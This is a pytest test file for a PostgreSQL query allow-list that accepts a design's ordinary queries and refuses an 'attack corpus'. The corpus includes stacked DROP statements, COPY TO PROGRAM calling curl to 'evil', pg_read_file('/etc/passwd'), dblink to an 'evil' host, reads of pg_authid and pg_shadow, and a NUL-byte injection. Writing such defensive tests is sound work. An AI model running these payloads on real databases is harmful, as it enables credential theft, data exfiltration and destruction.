"""Pasted SQL the query-plan analysis may run, decided by PostgreSQL's parser and allow-lists: an
attack corpus is refused with a reason naming what was found; the design's ordinary queries pass."""

import pytest

from apps.queryplans.engine.allowlist import check_query

TABLES = ("customers", "orders", "order_lines", "products")


@pytest.mark.parametrize(
    ("sql", "kind", "tables"),
    [
        (
            "SELECT id, status FROM orders WHERE customer_id = :customer_id ORDER BY created_at DESC LIMIT 50",
            "read",
            ("orders",),
        ),
        (
            "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '30 days') "
            "SELECT c.email, count(*) FROM recent r JOIN customers c ON c.id = r.customer_id GROUP BY c.email",
            "read",
            ("customers", "orders"),
        ),
        ("SELECT lower(email) FROM customers WHERE lower(email) = lower(%(email)s)", "read", ("customers",)),
        ("SELECT p.* FROM products p WHERE p.price_amount BETWEEN ? AND ? AND p.active", "read", ("products",)),
        ("SELECT pg_catalog.upper(sku)::text FROM products", "read", ("products",)),
        (
            "SELECT o.id, (SELECT sum(quantity) FROM order_lines l WHERE l.order_id = o.id) FROM orders o",
            "read",
            ("order_lines", "orders"),
        ),
        ("UPDATE orders SET status = 'paid' WHERE id = $1", "write", ("orders",)),
        ("INSERT INTO orders (customer_id, status) VALUES ($1, 'pending') RETURNING id", "write", ("orders",)),
        ("DELETE FROM order_lines WHERE order_id = $1", "write", ("order_lines",)),
        (
            "SELECT id FROM orders WHERE status = 'pending' ORDER BY id LIMIT 10 FOR UPDATE SKIP LOCKED",
            "write",
            ("orders",),
        ),
        ("WITH gone AS (DELETE FROM orders WHERE id = 1 RETURNING id) SELECT * FROM gone", "write", ("orders",)),
    ],
)
def test_the_designs_queries_pass_and_what_writes_is_marked_for_a_rolled_back_run(sql, kind, tables) -> None:
    verdict = check_query(sql, tables=TABLES)
    assert (verdict.kind, verdict.reason) == (kind, "")
    assert verdict.tables == tables


@pytest.mark.parametrize(
    ("sql", "said"),
    [
        # more than one statement, and statements that are no query
        ("SELECT 1 FROM orders; DROP TABLE orders", "2 statements"),
        ("SELECT 1; SELECT 2", "2 statements"),
        ("DROP TABLE orders", "DROP is not a query"),
        ("CREATE TABLE x (id int)", "CREATE TABLE is not a query"),
        ("ALTER TABLE orders ADD COLUMN x int", "ALTER TABLE is not a query"),
        ("TRUNCATE orders", "TRUNCATE is not a query"),
        ("COPY orders TO '/tmp/x'", "COPY is not a query"),
        ("COPY (SELECT * FROM customers) TO PROGRAM 'curl evil'", "COPY is not a query"),
        ("DO $$ BEGIN PERFORM pg_sleep(10); END $$", "a DO block is not a query"),
        ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "CREATE FUNCTION is not a query"),
        ("SET statement_timeout = 0", "SET is not a query"),
        ("SET ROLE postgres", "SET is not a query"),
        ("RESET ALL", "SET is not a query"),
        ("SHOW data_directory", "SHOW is not a query"),
        ("BEGIN", "transaction control is not a query"),
        ("COMMIT", "transaction control is not a query"),
        ("EXPLAIN ANALYZE DELETE FROM orders", "EXPLAIN is not a query"),
        ("GRANT ALL ON orders TO public", "GRANT is not a query"),
        ("LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", "LOCK is not a query"),
        ("LISTEN x", "LISTEN is not a query"),
        ("CALL p()", "CALL is not a query"),
        ("PREPARE q AS SELECT 1", "PREPARE is not a query"),
        ("CREATE TABLE AS SELECT * FROM orders", "PostgreSQL cannot parse it"),
        ("SELECT * INTO stolen FROM customers", "SELECT ... INTO creates a table"),
        # functions that sleep, read files, settings, other databases or large objects
        ("SELECT pg_sleep(60)", "pg_sleep() is not on the list"),
        ("SELECT * FROM orders WHERE pg_sleep(1) IS NULL", "pg_sleep() is not on the list"),
        (
            "SELECT count(*) FROM generate_series(1, 100000000) g, pg_sleep(0.01)",
            "generate_series() is not on the list",
        ),
        ("SELECT pg_read_file('/etc/passwd')", "pg_read_file() is not on the list"),
        ("SELECT pg_read_binary_file('postgresql.conf')", "pg_read_binary_file() is not on the list"),
        ("SELECT lo_import('/etc/passwd')", "lo_import() is not on the list"),
        ("SELECT set_config('role', 'postgres', false)", "set_config() is not on the list"),
        ("SELECT current_setting('data_directory')", "current_setting() is not on the list"),
        ("SELECT query_to_xml('select * from pg_authid', true, true, '')", "query_to_xml() is not on the list"),
        ("SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)", "dblink() is not on the list"),
        ("SELECT has_table_privilege('pg_authid', 'select')", "has_table_privilege() is not on the list"),
        ("SELECT pg_terminate_backend(pid) FROM orders", "pg_terminate_backend() is not on the list"),
        ("SELECT public.lower(email) FROM customers", "public.lower() is a function outside"),
        ("SELECT evil.count(*) FROM orders", "evil.count() is a function outside"),
        # other objects and the server's state
        ("SELECT * FROM pg_authid", "pg_authid: a pg_ name reads PostgreSQL's catalog"),
        ("SELECT * FROM pg_catalog.pg_shadow", "pg_shadow: a pg_ name reads"),
        ("SELECT * FROM information_schema.tables", "information_schema.tables: only the design's own tables"),
        ("SELECT * FROM other_tenant.orders", "other_tenant.orders: only the design's own tables"),
        ("SELECT * FROM otherdb.public.orders", "otherdb.public.orders: only the design's own tables"),
        ("SELECT * FROM secrets", "secrets, which the design has no table of"),
        ("SELECT current_user", "reads the session's user"),
        ("SELECT session_user, id FROM orders", "reads the session's user"),
        ("SELECT 'pg_authid'::regclass", "a cast to regclass looks objects up"),
        ("SELECT CAST('1' AS evil.mytype)", "evil.mytype is a type outside"),
        ("SELECT xmlelement(name x, 'y')", "an XML function is not allowed"),
        ("SELECT * FROM orders TABLESAMPLE SYSTEM (10)", "TABLESAMPLE is not allowed"),
        # a CTE named like a catalog, whose own body (or a query beside it) reaches the catalog
        (
            "WITH pg_roles AS (SELECT * FROM pg_roles) SELECT rolname FROM pg_roles",
            "a pg_ name reads PostgreSQL's catalog",
        ),
        ("SELECT c.relname FROM pg_class c, (WITH pg_class AS (SELECT 1) SELECT 1) s", "a pg_ name reads"),
        ("WITH pg_class AS (SELECT 1) DELETE FROM pg_class", "a pg_ name reads"),
        # operators, types and string builders
        ("SELECT id OPERATOR(public.+) 1 FROM orders", "an operator qualified by a schema"),
        ("SELECT 'x'::evil_domain FROM orders", "a cast to evil_domain is not on the list"),
        ("SELECT '<a/>'::xml FROM orders", "a cast to xml is not on the list"),
        ("SELECT length(format('%1000000000s', 'x')) FROM orders", "format() is not on the list"),
        ("SELECT lpad('', 200000000, 'x') FROM orders", "lpad() is not on the list"),
        # not SQL at all, and comments hiding a second statement
        ("this is not sql", "PostgreSQL cannot parse it"),
        ("SELECT 1 FROM orders /* ; */ ; DELETE FROM orders -- ", "2 statements"),
        ("", "0 statements"),
    ],
)
def test_the_attack_corpus_is_refused_with_what_was_found(sql, said) -> None:
    verdict = check_query(sql, tables=TABLES)
    assert not verdict.allowed
    assert said in verdict.reason, verdict.reason


def test_a_cte_may_be_named_as_its_readers_say_and_is_no_table() -> None:
    verdict = check_query("WITH secrets AS (SELECT id FROM orders) SELECT * FROM secrets", tables=TABLES)
    assert (verdict.kind, verdict.tables) == ("read", ("orders",))


def test_parameters_are_numbered_in_order_of_first_use() -> None:
    verdict = check_query(
        "SELECT * FROM orders WHERE customer_id = :c AND status = :s OR customer_id = :c", tables=TABLES
    )
    assert verdict.parameters == ("c", "s")
    assert "$1" in verdict.sql and "$2" in verdict.sql and ":c" not in verdict.sql


def test_a_huge_parameter_number_is_refused_at_once_not_counted_up_to() -> None:
    verdict = check_query("SELECT $99999999999 FROM orders", tables=TABLES)
    assert not verdict.allowed and "parameter number too large" in verdict.reason
    verdict = check_query("SELECT $70000 FROM orders", tables=TABLES)
    assert not verdict.allowed and "past the 65535" in verdict.reason


def test_a_nul_character_is_refused_whatever_the_parser_saw_before_it() -> None:
    verdict = check_query("SELECT 1 FROM orders\x00; DROP TABLE orders", tables=TABLES)
    assert not verdict.allowed and "NUL" in verdict.reason
